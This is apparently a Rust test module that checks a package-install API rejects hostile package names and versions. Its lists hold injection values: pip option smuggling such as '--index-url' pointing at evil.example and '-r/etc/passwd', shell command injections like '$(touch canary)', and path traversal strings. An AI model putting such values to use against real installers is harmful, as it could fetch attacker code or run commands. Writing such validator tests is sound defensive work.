//! Bad input for packages: whatever could be read as an option, an address, a path or a command.

use reqwest::{Method, RequestBuilder};
use serde_json::{Value, json};

use super::cases::{Case, case, invalid};
use crate::support::World;

/// What is no name of a package.
pub(crate) const NAMES: &[&str] = &[
    "",
    " ",
    "-",
    "--index-url=https://evil.example/simple",
    "-r/etc/passwd",
    "-e.",
    "--upgrade",
    "--target=/",
    "requests --index-url https://evil.example",
    "requests==2.0",
    "requests[socks]",
    "requests;os_name=='posix'",
    "requests @ https://evil.example/x.whl",
    "https://evil.example/x.whl",
    "git+https://evil.example/x",
    "file:///tmp/x.whl",
    "./x",
    "../x",
    "/tmp/x.whl",
    "~/x",
    "x/y",
    "x\\y",
    "$(touch canary)",
    "`touch canary`",
    "x;touch canary",
    "x|touch canary",
    "x&touch canary",
    "x\ntouch canary",
    "x\0y",
    "x y",
    "ｒequests",
    "réquests",
    ".x",
    "x.",
    "_x",
    "x-",
    "@x",
    "%2e%2e",
    "x*",
    "{x}",
];

/// What is no version.
pub(crate) const VERSIONS: &[&str] = &[
    " ",
    "latest",
    "==",
    "1.0 --index-url=https://evil.example/simple",
    "1.0\n--index-url=https://evil.example/simple",
    "==1.0;os_name=='posix'",
    "@ https://evil.example/x.whl",
    "==1.0 @ file:///tmp/x",
    "--pre",
    "-1",
    "$(touch canary)",
    "1.0 && touch canary",
    "1.0|x",
    "1.0\0",
    "=>1",
    "==1.0 # x",
    "../1.0",
    "file:///x",
];

/// Every case.
pub(super) fn all(world: &World) -> Vec<Case> {
    let admin = &world.admin.client;
    let install =
        |body: Value| -> RequestBuilder { admin.request(Method::POST, "/api/packages/install").json(&body) };
    let delete = |name: &str| admin.request(Method::DELETE, &format!("/api/packages/{name}"));
    let mut cases = vec![
        invalid("installing nothing", install(json!({})), "/package_name"),
        invalid("installing a number", install(json!({"package_name": 1})), "/package_name"),
        invalid(
            "a name that is too long",
            install(json!({"package_name": "x".repeat(101)})),
            "/package_name",
        ),
        invalid(
            "a version that is too long",
            install(json!({"package_name": "x", "version": "1".repeat(201)})),
            "/version",
        ),
        invalid("a version of another kind", install(json!({"package_name": "x", "version": 1})), "/version"),
        invalid("removing an option", delete("--all"), "path:package_name"),
        invalid("removing a path", delete("..%2fx"), "path:package_name"),
        case("removing what is not installed", delete("requests"), 400, "bad-request", None),
        case(
            "going back to nothing",
            admin.request(Method::POST, "/api/packages/rollback"),
            400,
            "bad-request",
            None,
        ),
    ];
    cases.extend(
        NAMES.iter().map(|name| {
            invalid("a name that is none", install(json!({"package_name": name})), "/package_name")
        }),
    );
    cases.extend(VERSIONS.iter().map(|version| {
        invalid(
            "a version that is none",
            install(json!({"package_name": "x", "version": version})),
            "/version",
        )
    }));
    cases
}
